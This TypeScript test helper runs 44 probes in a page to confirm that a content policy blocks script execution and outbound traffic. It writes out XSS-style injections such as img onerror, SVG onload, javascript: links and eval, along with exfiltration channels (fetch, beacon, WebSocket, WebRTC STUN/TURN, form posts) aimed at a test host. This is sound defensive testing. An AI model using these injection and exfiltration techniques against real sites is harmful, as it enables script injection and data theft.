/**
 * 44 ways in which a compromised page would try to run a text as a script, to load something from elsewhere or to send
 * something there. Run in the page; each must fail.
 */

/** Runs in the page. Answers with the names of all probes, once each has been tried; what escaped is in `globalThis.escaped`. */
export async function tryEscapes(elsewhere: string): Promise<readonly string[]> {
  // Code that a debugger runs may use eval at first, whatever the policy says; code that a timer runs may not.
  await new Promise((resolve) => setTimeout(resolve));
  const page = globalThis as unknown as { escaped: string[] };
  page.escaped = [];
  const mark = (name: string): string => `globalThis.escaped?.push('${name}')`;
  const put = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    attributes: Record<string, string>,
    text = '',
  ): HTMLElementTagNameMap[Tag] => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const html = (text: string): void => {
    const box = put('div', {});
    box.innerHTML = text;
  };
  const blob = (text: string): string => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const script = (name: string): string => `${elsewhere}/${name}.js`;
  const evaluate: (text: string) => unknown = Reflect.get(globalThis, 'eval');
  const probes: Record<string, () => unknown> = {
    'inline script': () => put('script', {}, mark('inline script')),
    'inline module': () => put('script', { type: 'module' }, mark('inline module')),
    'script from elsewhere': () => put('script', { src: script('script') }),
    'module from elsewhere': () => put('script', { type: 'module', src: script('module') }),
    'script of data': () => put('script', { src: `data:text/javascript,${mark('script of data')}` }),
    'script of a blob': () => put('script', { src: blob(mark('script of a blob')) }),
    'event attribute': () => put('button', { onclick: mark('event attribute') }).click(),
    'onerror of a picture': () => html(`<img src="/none" onerror="${mark('onerror of a picture')}">`),
    'onload of an SVG': () => html(`<svg onload="${mark('onload of an SVG')}"></svg>`),
    'javascript: of a link': () => put('a', { href: `javascript:${mark('javascript: of a link')}` }).click(),
    eval: () => evaluate(mark('eval')),
    'a function of text': () => new Function(mark('a function of text'))(),
    'a timer of text': () => setTimeout(mark('a timer of text') as unknown as () => void),
    'import of data': () => import(/* @vite-ignore */ `data:text/javascript,${mark('import of data')}`),
    'import of a blob': () => import(/* @vite-ignore */ blob(mark('import of a blob'))),
    'import from elsewhere': () => import(/* @vite-ignore */ script('import')),
    'web assembly': async () => {
      await WebAssembly.compile(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]));
      page.escaped.push('web assembly');
    },
    'worker of a blob': () => works(new Worker(blob('postMessage(1)')), 'worker of a blob'),
    'worker of data': () => works(new Worker('data:text/javascript,postMessage(1)'), 'worker of data'),
    'worker from elsewhere': () => new Worker(script('worker')),
    'shared worker': () => new SharedWorker(blob('onconnect = (e) => e.ports[0].postMessage(1)')),
    'service worker': () =>
      navigator.serviceWorker.register('/none.js').then(() => page.escaped.push('service worker')),
    'frame from elsewhere': () => put('iframe', { src: `${elsewhere}/frame` }),
    'frame of a text': () => put('iframe', { srcdoc: `<script>parent.${mark('frame of a text').slice(11)}</script>` }),
    object: () => put('object', { data: `${elsewhere}/object` }),
    embed: () => put('embed', { src: `${elsewhere}/embed` }),
    'style element': () => {
      put('style', {}, '.probe-of-style { position: fixed }');
      if (getComputedStyle(put('i', { class: 'probe-of-style' })).position === 'fixed')
        page.escaped.push('style element');
    },
    'style attribute': () => {
      if (getComputedStyle(put('i', { style: 'position: fixed' })).position === 'fixed')
        page.escaped.push('style attribute');
    },
    'style sheet from elsewhere': () => put('link', { rel: 'stylesheet', href: `${elsewhere}/style.css` }),
    'font from elsewhere': () => new FontFace('probe', `url(${elsewhere}/font.woff2)`).load(),
    'picture from elsewhere': () => put('img', { src: `${elsewhere}/picture.png` }),
    'sound from elsewhere': () => put('audio', { src: `${elsewhere}/sound.wav`, autoplay: '' }),
    'film from elsewhere': () => put('video', { src: `${elsewhere}/film.mp4`, autoplay: '' }),
    fetch: () => fetch(`${elsewhere}/fetch`, { method: 'POST', mode: 'no-cors', body: 'x' }),
    'an old request': () => {
      const request = new XMLHttpRequest();
      request.open('POST', `${elsewhere}/xhr`);
      request.send('x');
    },
    beacon: () => navigator.sendBeacon(`${elsewhere}/beacon`, 'x'),
    'a socket': () => new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
    'a stream of events': () => new EventSource(`${elsewhere}/events`),
    form: () => put('form', { action: `${elsewhere}/form`, method: 'post' }).submit(),
    'a connection in advance': () => put('link', { rel: 'preconnect', href: elsewhere }),
    'a connection in advance to this computer by name': () =>
      put('link', { rel: 'preconnect', href: elsewhere.replace('127.0.0.1', 'localhost') }),
    'a call through a relay (TCP)': () =>
      call({ urls: `turn:${new URL(elsewhere).host}?transport=tcp`, username: 'x', credential: 'x' }),
    'a call (UDP)': () => call({ urls: `stun:${new URL(elsewhere).host}` }),
    'another base': () => {
      const base = document.createElement('base');
      base.href = `${elsewhere}/`;
      document.head.append(base);
      if (document.baseURI.startsWith(elsewhere)) page.escaped.push('another base');
      base.remove();
    },
  };
  function works(worker: Worker, name: string): Promise<void> {
    return new Promise((resolve) => {
      worker.onmessage = () => resolve(void page.escaped.push(name));
      worker.onerror = () => resolve();
    });
  }
  /** Content-Security-Policy says nothing about calls. Resolves when the call has looked for every way out. */
  async function call(server: RTCIceServer): Promise<void> {
    const connection = new RTCPeerConnection({ iceServers: [server] });
    connection.createDataChannel('x');
    const looked = new Promise<void>((resolve) => {
      connection.onicegatheringstatechange = () => {
        if (connection.iceGatheringState === 'complete') resolve();
      };
    });
    await connection.setLocalDescription();
    await looked;
    connection.close();
  }
  for (const run of Object.values(probes)) {
    try {
      await run();
    } catch {
      // Refused at once, as it should be. Later refusals show because nothing happened.
    }
  }
  return Object.keys(probes);
}
